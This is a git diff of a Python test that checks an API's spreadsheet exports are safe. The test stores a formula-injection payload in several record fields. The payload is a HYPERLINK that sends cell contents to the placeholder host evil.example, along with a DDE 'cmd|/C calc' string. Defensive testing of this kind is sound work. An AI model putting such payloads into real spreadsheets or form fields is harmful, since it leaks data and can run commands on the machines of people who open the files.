@@ -9,6 +9,7 @@ import psycopg
 
 from api.app import create_app
 from api.routes.devices_import import XLSX
+from tests.support.described import description
 from tests.support.served_api import AIR, api_context, client_of
 
 FORMULA = '=HYPERLINK("http://evil.example/"&A1,"@SUM(1+1)*cmd|/C calc!A0")'
@@ -54,7 +55,7 @@ def cells_of(content: bytes, separator: str) -> list[str]:
 async def test_every_sheet_is_harmless(database: str) -> None:
     async with api_context(database) as context, client_of(context) as client:
         client.event_hooks["response"].clear()
-        assert answering_with_sheets(create_app(context).openapi()) == ASKED.keys(), "name a new one above"
+        assert answering_with_sheets(description(create_app(context)).document) == ASKED.keys(), "name a new one above"
         (await client.put("/organisations/o", json={"name": FORMULA})).raise_for_status()
         (await client.put("/profiles/air", json={**AIR, "name": FORMULA, "category": FORMULA[:50]})).raise_for_status()
         device = {"name": FORMULA, "profile": "air", "organisation": "o", "tags": {FORMULA: FORMULA}}
